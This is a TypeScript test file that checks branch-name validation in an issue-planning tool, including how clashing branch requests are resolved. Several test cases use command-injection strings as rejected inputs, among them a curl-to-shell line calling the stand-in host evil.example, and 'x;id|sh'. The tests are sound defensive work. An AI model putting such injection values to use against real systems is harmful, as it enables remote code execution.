import { describe, expect, it } from 'vitest';
import { context, DELIVERABLES, issue } from '../../test/support/planning.ts';
import { createWishIndex, explainWish, wishProblem } from './branch-wish.ts';
import type { LinkedPull } from './issue.ts';
import { planIssue } from './plan.ts';

describe('a wish is not followed', () => {
  it.each([
    ['$(curl${IFS}evil.example|sh)', 'unsafe_name'],
    ['x;id|sh', 'unsafe_name'],
    ['"x"', 'unsafe_name'],
    ['-x', 'unsafe_name'],
    ['main', 'default_branch'],
    ['MAIN/x', 'default_branch'],
    ['feature', 'reserved_name'],
    ['Feature', 'reserved_name'],
    ['feature/issue-8', 'reserved_name'],
    ['feature/issue-7/part', 'reserved_name'],
    ['FEATURE/ISSUE-900', 'reserved_name'],
  ])('%s: %s', (wish, problem) => {
    expect(wishProblem(wish, 'main')).toBe(problem);
    expect(explainWish(wish, problem, 'feature/issue-7')).toMatch(/So feature\/issue-7 is used\.$/);
  });
});

it.each(['login', 'feature/login', 'feature-x', 'features', 'feature/issue-x', 'fix/c++_1.0'])(
  '%s may be asked for',
  (wish) => expect(wishProblem(wish, 'main')).toBeNull(),
);

describe('of two issues that ask for names which cannot exist beside each other', () => {
  it.each([
    ['a', 'a'],
    ['a', 'a/b'],
    ['a/b', 'a'],
    ['A/b', 'a/B/c'],
  ])('%s and %s: the older one has it, in whatever order they are seen', (old, young) => {
    const first = createWishIndex();
    expect(first.put(5, old)).toEqual([]);
    expect(first.put(9, young)).toEqual([]);
    expect([first.rival(5, old), first.rival(9, young)]).toEqual([null, 5]);
    const second = createWishIndex();
    second.put(9, young);
    expect(second.rival(9, young)).toBeNull();
    expect(second.put(5, old)).toEqual([9]);
    expect(second.rival(9, young)).toBe(5);
  });

  it('the other gets it when the first one no longer asks', () => {
    const index = createWishIndex();
    index.put(5, 'a');
    index.put(9, 'a/b');
    index.put(5, 'b');
    expect(index.rival(9, 'a/b')).toBeNull();
    index.put(5, null);
    expect(index.rival(9, 'b')).toBeNull();
    expect(index.rival(10, 'a')).toBe(9);
  });
});

describe('the plan', () => {
  const branches = (body: string, over = {}, pull: Partial<LinkedPull> | null = null) => {
    const linked = pull && {
      number: 20,
      headBranch: 'x',
      state: 'open' as const,
      endedAt: null,
      author: 'ann',
      decision: null,
      decidedAt: null,
      comments: [],
      ...pull,
    };
    const given = issue({
      body: `${body}\n${DELIVERABLES}`,
      pull: linked,
      labels: ['needs-review'],
    });
    const { plans } = planIssue(given, null, context(over));
    return Object.fromEntries(plans.map((plan) => [plan.id.split('~').at(-1), plan.branch]));
  };

  it('follows a wish that nothing speaks against, and falls back otherwise', () => {
    expect(branches('Branch: login')['implement.1']).toBe('login');
    const wishProblems = new Map([[7, 'exists']]);
    expect(branches('Branch: login', { wishProblems })['implement.1']).toBe('feature/issue-7');
    expect(branches('Branch: feature')['implement.1']).toBe('feature/issue-7');
  });

  it.each(['x;id|sh', '$(id)', 'main', 'a b', '-x'])(
    "names GitHub's own ref where a pull request's branch is called %j",
    (headBranch) => {
      expect(branches('', {}, { headBranch })['review.1']).toBe('refs/pull/20/head');
    },
  );

  it("names a pull request's branch where its name is safe", () => {
    expect(branches('', {}, { headBranch: 'topic/a' })['review.1']).toBe('topic/a');
  });
});
